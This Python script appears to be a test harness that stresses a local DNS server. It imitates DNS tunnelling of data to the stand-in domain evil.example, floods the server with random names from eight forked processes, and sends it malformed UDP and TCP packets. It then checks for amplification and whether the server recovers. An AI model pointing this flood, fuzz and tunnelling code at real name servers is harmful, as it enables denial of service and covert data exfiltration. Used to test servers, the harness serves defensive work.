# Floods of the name server inside. The last lines say what came of it.
import os, random, socket, struct, sys

def question(name, kind=1):
    return struct.pack(">6H", 0x5a6c, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + struct.pack(">BHH", 0, kind, 1)

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("127.0.0.1", 53))
s.settimeout(20)

def rcode(name, kind=1):
    s.send(question(name, kind))
    return s.recv(4096)[3] & 15

def tunnel(suffix, count, width):
    """What a program does that wants data out by names: the codes, counted."""
    codes = {}
    for i in range(int(count)):
        label = ("%04d" % i).ljust(int(width), "x")
        c = rcode(label + "." + suffix, 16 if i % 3 == 2 and suffix == "evil.example" else 1)
        codes[c] = codes.get(c, 0) + 1
    print(sorted(codes.items()))

def names(seconds):
    """As many unlisted names as can be, by eight processes."""
    import time
    print("flooding", flush=True)
    end = time.monotonic() + float(seconds)
    for _ in range(7):
        if os.fork() == 0:
            break
    n = 0
    while time.monotonic() < end:
        n += 1
        s.send(question("n%d-%d." % (os.getpid(), n) + "x" * 60 + "." + "y" * 60 + ".example"))
    os._exit(0)

def malformed(count):
    """Packets that are no queries: less comes back than was sent."""
    rnd = random.Random(7)
    good = question("v4.good.example")
    sent = got = 0
    s.setblocking(False)
    for i in range(int(count)):
        b = bytearray(good)
        for _ in range(rnd.randrange(1, 6)):
            b[rnd.randrange(len(b))] = rnd.randrange(256)
        b = bytes(b[:rnd.randrange(len(b) + 1)]) if i % 3 == 0 else bytes(b) + os.urandom(rnd.randrange(40)) if i % 3 == 1 else os.urandom(rnd.randrange(1, 600))
        try:
            sent += s.send(b)
        except OSError:
            pass
        try:
            while True:
                got += len(s.recv(4096))
        except OSError:
            pass
    for i in range(20):
        t = socket.create_connection(("127.0.0.1", 53))
        t.sendall([struct.pack(">H", 40) + os.urandom(40), b"\0\0", b"\xff\xff" + os.urandom(65535), b"\0"][i % 4])
        t.close()
    s.setblocking(True)
    print("amplified" if got > 2 * sent else "bounded")
    t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    t.connect(("127.0.0.1", 53))
    t.settimeout(2)
    for _ in range(20):  # as a resolver library: what a full queue dropped is asked again
        t.send(question("v4.good.example"))
        try:
            print("afterwards", t.recv(512)[3] & 15)
            return
        except socket.timeout:
            pass

globals()[sys.argv[1]](*sys.argv[2:])
